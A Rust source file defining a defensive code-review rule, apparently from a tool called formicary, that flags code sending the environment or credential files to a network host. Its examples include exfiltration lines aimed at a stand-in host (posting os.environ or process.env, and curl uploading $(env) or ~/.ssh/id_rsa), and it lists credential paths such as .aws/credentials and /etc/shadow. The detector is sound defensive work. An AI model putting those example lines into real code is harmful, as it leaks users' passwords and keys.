//! Secrets of the machine that are sent away.

use super::MALICIOUS;
use crate::file::{File, Report};
use crate::rules::security::calls::{calls, path, text};
use crate::rules::{Info, Rule};
use formicary_model::Language;
use formicary_model::review::Confidence;
use formicary_syntax::walk::{Nested, Step};
use formicary_syntax::{ExprId, ExprKind};

pub(super) const RULE: Rule = Rule { info: &INFO, check };

static INFO: Info = Info {
    name: "secret-exfiltration",
    title: "The environment or keys of the machine are sent away",
    why: "The environment and the folders of keys hold passwords and tokens; no program needs all of them elsewhere.",
    suggestion: "Send the one value that is meant, by name.",
    confidence: Confidence::Medium,
    languages: &[Language::Python, Language::JavaScript, Language::TypeScript, Language::Bash],
    examples: &[
        (
            Language::Python,
            "import os, requests\nrequests.post('https://a.b', json=dict(os.environ))\n",
            "import os, requests\nrequests.post('https://a.b', json={'user': os.environ['USER']})\n",
        ),
        (
            Language::JavaScript,
            "fetch('https://a.b', { method: 'POST', body: JSON.stringify(process.env) })",
            "fetch('https://a.b', { method: 'POST', body: JSON.stringify(process.env.USER) })",
        ),
        (Language::Bash, "curl -d \"$(env)\" https://a.b\n", "curl -d \"$USER\" https://a.b\n"),
        (Language::Bash, "curl -F f=@$HOME/.ssh/id_rsa https://a.b\n", "curl -F f=@report.txt https://a.b\n"),
    ],
    ..MALICIOUS
};

fn check(file: &File<'_, '_>, report: &mut Report<'_>) {
    let words = [
        "post",
        "put",
        "urlopen",
        "Request",
        "fetch",
        "request",
        "send",
        "sendall",
        "write",
        "curl",
        "wget",
        "nc",
        "sendBeacon",
    ];
    for call in calls(file, &words) {
        let sends = match file.language() {
            Language::Python => {
                let module = call.path.split('.').next().unwrap_or("");
                matches!(module, "requests" | "httpx" | "urllib" | "aiohttp")
                    || matches!(call.method(), "sendall" | "send")
            }
            Language::Bash => matches!(call.path.as_str(), "curl" | "wget" | "nc"),
            _ => matches!(
                call.path.as_str(),
                "fetch"
                    | "axios.post"
                    | "axios.put"
                    | "axios.request"
                    | "https.request"
                    | "http.request"
                    | "navigator.sendBeacon"
            ),
        };
        if !sends {
            continue;
        }
        let taken = if file.language() == Language::Bash {
            let line = file.unit.text(call.span);
            let uploads = line.contains("-d ")
                || line.contains("--data")
                || line.contains("-F ")
                || line.contains("-T ")
                || line.contains("--post-");
            uploads && (line.contains("$(env)") || line.contains("$(printenv)") || is_key_file(line))
        } else {
            call.arguments.iter().any(|argument| holds_secrets(file, argument.value))
        };
        if taken {
            report.find(call.span, "this sends secrets of the machine away");
        }
    }
}

/// Whether a value holds the whole environment, or a file of keys.
fn holds_secrets(file: &File<'_, '_>, id: ExprId) -> bool {
    let unit = file.unit;
    let (mut found, mut parts) = (false, Vec::new());
    unit.walk_expr(id, Nested::Skip, &mut |step| {
        let Step::Expr(inner) = step else { return };
        // Parts of the environment are asked for by name: `os.environ["A"]`, `os.environ.get("A")`.
        match unit.kind(inner) {
            ExprKind::Subscript { base, .. } => parts.push(*base),
            ExprKind::Attribute { base, name, .. } if !matches!(*name, "copy" | "items" | "values") => {
                parts.push(*base)
            }
            _ => {}
        }
        let whole = matches!(unit.kind(inner), ExprKind::Attribute { .. })
            && matches!(path(file, inner).as_str(), "os.environ" | "process.env")
            && !parts.contains(&inner);
        found |= whole || text(file, inner).is_some_and(is_key_file);
    });
    found
}

fn is_key_file(text: &str) -> bool {
    [
        ".ssh/id_",
        ".aws/credentials",
        ".config/gcloud",
        ".kube/config",
        ".netrc",
        ".npmrc",
        ".pypirc",
        "/etc/shadow",
    ]
    .iter()
    .any(|name| text.contains(name))
}
